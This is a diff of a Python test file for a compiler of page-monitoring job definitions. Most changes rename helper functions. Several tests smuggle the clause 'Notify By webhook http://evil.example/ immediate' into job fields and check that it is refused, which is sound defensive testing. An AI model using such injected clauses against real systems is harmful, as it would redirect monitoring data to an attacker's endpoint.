@@ -160,7 +160,7 @@ def test_time_of_any_length_is_written(amount: int):
 EVIL = "http://evil.example/"
 
 
-def judged_draft(url: str = "https://a.example/") -> Draft:
+def make_draft(url: str = "https://a.example/") -> Draft:
     """Return a draft of a page."""
     return Draft("", url, "peer")
 
@@ -172,21 +172,21 @@ def read(judged: Judged) -> Sentinel:
     return statements[0]
 
 
-def refused(judged: Judged) -> list[str]:
+def list_refused(judged: Judged) -> list[str]:
     """Return the fields that were refused."""
     return [note.field for note in judged.notes if note.grade == "refused"]
 
 
 def test_valid_clauses_are_kept_and_others_noted():
     """One invalid field must not lose the job."""
-    made = judged_draft()
+    made = make_draft()
     made.monitor("all words", "kind")
     made.monitor("all wrods", "other")
     made.add("Exclude css .ad", "ad")
     made.add('Exclude css ".ad"', "ads")
     judged = judge(made, "s", learn=False)
 
-    assert ["other", "ad"] == refused(judged)
+    assert ["other", "ad"] == list_refused(judged)
     assert 'Create Sentinel s Using https://a.example/\n  Monitor all words\n  Exclude css ".ad"' == judged.text
     assert "approximated" == judged.grade
 
@@ -196,15 +196,15 @@ def test_valid_clauses_are_kept_and_others_noted():
 )
 def test_address_cannot_add_a_receiver_or_a_secret(more: str):
     """A foreign file only names pages: its addresses cannot add clauses."""
-    judged = judge(judged_draft(f"https://a.example/ {more}"), "s", learn=False)
+    judged = judge(make_draft(f"https://a.example/ {more}"), "s", learn=False)
 
-    assert ("", ["url"]) == (judged.text, refused(judged))
+    assert ("", ["url"]) == (judged.text, list_refused(judged))
 
 
 def test_clause_cannot_add_another_clause():
     """The clauses are a part of Monitor, a condition, a step, a selector and a proxy."""
     more = f" Notify By webhook {EVIL} immediate"
-    made = judged_draft()
+    made = make_draft()
     made.monitor(f"links{more}", "part")
     made.where(f"inserted{more}", "condition")
     made.add(f"Proxy http://p.example{more}", "proxy")
@@ -213,18 +213,18 @@ def test_clause_cannot_add_another_clause():
     judged = judge(made, "s", learn=False)
 
     assert "evil" not in str(read(judged).notify)
-    assert {"part", "condition", "proxy", "step"} <= set(refused(judged))
+    assert {"part", "condition", "proxy", "step"} <= set(list_refused(judged))
     assert MORE_CLAUSES in "".join(note.text for note in judged.notes)
 
 
 def test_clauses_of_one_field_are_kept_or_refused_together():
     """Hours and their zone are an example."""
-    made = judged_draft()
+    made = make_draft()
     made.add("During daily 08:00 to 10:00 Zone Europe/Paris", "hours", many=2)
     made.add(f"During daily 08:00 to 10:00 Zone UTC Notify By webhook {EVIL} immediate", "other", many=2)
     judged = judge(made, "s", learn=False)
 
-    assert ("Europe/Paris", ["other"]) == (read(judged).zone, refused(judged))
+    assert ("Europe/Paris", ["other"]) == (read(judged).zone, list_refused(judged))
 
 
 @pytest.mark.parametrize(
@@ -238,7 +238,7 @@ def test_clauses_of_one_field_are_kept_or_refused_together():
 )
 def test_job_with_an_invalid_address_is_refused(url: str, why: str):
     """The note has the reason."""
-    judged = judge(judged_draft(url), "s", learn=False)
+    judged = judge(make_draft(url), "s", learn=False)
 
     assert ("refused", "") == (judged.grade, judged.text)
     assert judged.notes[-1].text.startswith(why)
@@ -248,7 +248,7 @@ def test_interval_is_kept_or_becomes_bounds():
     """The bounds are a quarter and four times the interval, but at least a minute."""
     texts = []
     for learn, every in ((False, HOUR), (True, HOUR), (True, MINUTE)):
-        made = judged_draft()
+        made = make_draft()
         made.every = every
         texts.append(judge(made, "s", learn=learn).text.rpartition("\n  ")[2])
 
@@ -261,7 +261,7 @@ def test_interval_is_kept_or_becomes_bounds():
 
 def test_selectors_of_one_kind_are_joined():
     """Selectors of several kinds become places of each part."""
-    one, several = judged_draft(), judged_draft()
+    one, several = make_draft(), make_draft()
     one.select("css", ".a", "css")
     one.select("css", ".b", "css")
     several.select("css", ".a", "css")
@@ -273,7 +273,7 @@ def test_selectors_of_one_kind_are_joined():
 
 def test_only_secrets_in_the_text_are_returned():
     """A header that was refused needs no secret."""
-    made = judged_draft()
+    made = make_draft()
     made.header("Cookie", "a", "cookie")
     made.keep_secret("unused", "b")
 
